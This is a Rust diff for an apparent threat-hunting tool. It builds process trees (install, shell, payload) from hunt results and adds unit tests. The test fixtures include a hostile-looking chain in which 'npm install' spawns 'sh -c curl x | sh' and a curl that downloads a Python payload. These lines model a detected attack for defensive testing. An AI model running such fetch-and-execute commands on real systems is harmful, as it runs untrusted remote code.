@@ -33,6 +33,89 @@ pub struct Finding {
     pub evidence: Vec<Evidence>,
     /// The row as the hunt gave it.
     pub fields: Map<String, Value>,
+    /// The processes the row names, from the install down to the payload (a chain's steps in
+    /// the hunt's column order, each step's parent first); empty unless there are two or more.
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub process_tree: Vec<ProcessNode>,
+}
+
+/// One process of a finding's process tree.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct ProcessNode {
+    /// The chain step or role it plays (`install`, `shell`, `payload`, `parent`, or empty).
+    pub step: String,
+    pub name: Option<String>,
+    pub command_line: Option<String>,
+}
+
+impl Finding {
+    /// The process tree as indented text, one process per line, or None without one.
+    pub fn process_tree_text(&self) -> Option<String> {
+        if self.process_tree.is_empty() {
+            return None;
+        }
+        let mut out = String::new();
+        for (depth, node) in self.process_tree.iter().enumerate() {
+            let what = node.command_line.as_deref().or(node.name.as_deref()).unwrap_or("?");
+            let branch = if depth == 0 { String::new() } else { format!("{}└─ ", "   ".repeat(depth - 1)) };
+            let step = if node.step.is_empty() { String::new() } else { format!("  [{}]", node.step) };
+            out.push_str(&format!("{branch}{what}{step}\n"));
+        }
+        Some(out)
+    }
+}
+
+/// Where a hunt's result names processes: per node, the column prefix before `name` and
+/// `command_line` (`install.process.`, `process.parent.`, …), in column order, parents first.
+fn process_columns(schema: &arrow::datatypes::Schema) -> Vec<(String, String)> {
+    let mut steps: Vec<String> = Vec::new();
+    for field in schema.fields() {
+        let name = field.name();
+        let Some(at) = name.rfind("process.") else { continue };
+        if name.ends_with("process.name") || name.ends_with("process.command_line") || name.contains("process.parent.")
+        {
+            let step = name[..at].to_string();
+            if !steps.contains(&step) {
+                steps.push(step);
+            }
+        }
+    }
+    let has = |prefix: &str| {
+        schema
+            .fields()
+            .iter()
+            .any(|f| f.name().strip_prefix(prefix).is_some_and(|rest| rest == "name" || rest == "command_line"))
+    };
+    let mut nodes = Vec::new();
+    for step in steps {
+        let label = step.trim_end_matches('.').to_string();
+        for (prefix, label) in
+            [(format!("{step}process.parent."), "parent".to_string()), (format!("{step}process."), label)]
+        {
+            if has(&prefix) {
+                nodes.push((prefix, label));
+            }
+        }
+    }
+    nodes
+}
+
+fn process_tree(columns: &[(String, String)], row: &Map<String, Value>) -> Vec<ProcessNode> {
+    if columns.len() < 2 {
+        return Vec::new();
+    }
+    let get = |k: String| row.get(&k).filter(|v| !v.is_null()).map(text);
+    let nodes: Vec<ProcessNode> = columns
+        .iter()
+        .map(|(prefix, step)| ProcessNode {
+            step: step.clone(),
+            name: get(format!("{prefix}name")),
+            command_line: get(format!("{prefix}command_line")),
+        })
+        .filter(|n| n.name.is_some() || n.command_line.is_some())
+        .collect();
+    // One process is a row, not a tree.
+    if nodes.len() < 2 { Vec::new() } else { nodes }
 }
 
 /// Entity name → the columns that carry it (a step prefix such as `install.` may precede them).
@@ -55,7 +138,10 @@ fn column<'r>(row: &'r Map<String, Value>, names: &[&str]) -> Option<(&'r str, &
         }
     }
     row.iter()
-        .find(|(k, v)| !v.is_null() && names.iter().any(|n| k.ends_with(&format!(".{n}"))))
+        .find(|(k, v)| {
+            // `log.file.path` is where the evidence is, not a file the event touched.
+            !v.is_null() && names.iter().any(|n| k.ends_with(&format!(".{n}")) && !k.ends_with(&format!("log.{n}")))
+        })
         .map(|(k, v)| (k.as_str(), v))
 }
 
@@ -112,6 +198,7 @@ fn fnv(parts: &[&str]) -> String {
 /// One finding per row of the hunt's result.
 pub fn findings(hunt: &PackHunt, batches: &[RecordBatch]) -> Result<Vec<Finding>, String> {
     let mut out = Vec::new();
+    let processes = batches.first().map(|b| process_columns(&b.schema())).unwrap_or_default();
     for row in json_rows(batches)? {
         let evidence = evidence(&row);
         let keys: Vec<String> = if evidence.is_empty() {
@@ -131,6 +218,7 @@ pub fn findings(hunt: &PackHunt, batches: &[RecordBatch]) -> Result<Vec<Finding>
             timestamp: row.get("@timestamp").and_then(Value::as_str).map(str::to_string),
             entities: entities(&row),
             evidence,
+            process_tree: process_tree(&processes, &row),
             fields: row,
         });
     }
@@ -156,4 +244,51 @@ fn json_rows(batches: &[RecordBatch]) -> Result<Vec<Map<String, Value>>, String>
             Err(e) => Err(e.to_string()),
         })
         .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use arrow::array::{ArrayRef, StringArray};
+    use std::sync::Arc;
+
+    fn hunt() -> PackHunt {
+        PackHunt { path: "h.hunt".into(), text: String::new(), meta: Default::default(), tables: vec![], fixture: None }
+    }
+
+    fn batch(columns: &[(&str, &str)]) -> RecordBatch {
+        let arrays: Vec<(&str, ArrayRef)> =
+            columns.iter().map(|(n, v)| (*n, Arc::new(StringArray::from(vec![*v])) as ArrayRef)).collect();
+        RecordBatch::try_from_iter(arrays).unwrap()
+    }
+
+    #[test]
+    fn a_chain_becomes_a_process_tree_in_step_order() {
+        let b = batch(&[
+            ("install.process.command_line", "npm install"),
+            ("shell.process.command_line", "sh -c curl x | sh"),
+            ("payload.process.name", "curl"),
+            ("payload.process.command_line", "curl -o /tmp/ld.py x"),
+            ("payload.log.file.path", "edr/host.ndjson"),
+        ]);
+        let f = &findings(&hunt(), &[b]).unwrap()[0];
+        let steps: Vec<&str> = f.process_tree.iter().map(|n| n.step.as_str()).collect();
+        assert_eq!(steps, ["install", "shell", "payload"]);
+        assert_eq!(f.process_tree[2].name.as_deref(), Some("curl"));
+        assert_eq!(f.entities.get("file"), None, "log.file.path is evidence, not an entity");
+        assert_eq!(
+            f.process_tree_text().unwrap(),
+            "npm install  [install]\n└─ sh -c curl x | sh  [shell]\n   └─ curl -o /tmp/ld.py x  [payload]\n"
+        );
+    }
+
+    #[test]
+    fn a_parent_comes_before_its_child_and_one_process_is_no_tree() {
+        let b = batch(&[("process.command_line", "sh -c x"), ("process.parent.name", "node")]);
+        let f = &findings(&hunt(), &[b]).unwrap()[0];
+        let names: Vec<_> = f.process_tree.iter().map(|n| (n.step.as_str(), n.name.as_deref())).collect();
+        assert_eq!(names, [("parent", Some("node")), ("", None)]);
+        let single = batch(&[("process.name", "curl"), ("host.name", "h")]);
+        assert!(findings(&hunt(), &[single]).unwrap()[0].process_tree.is_empty());
+    }
 }
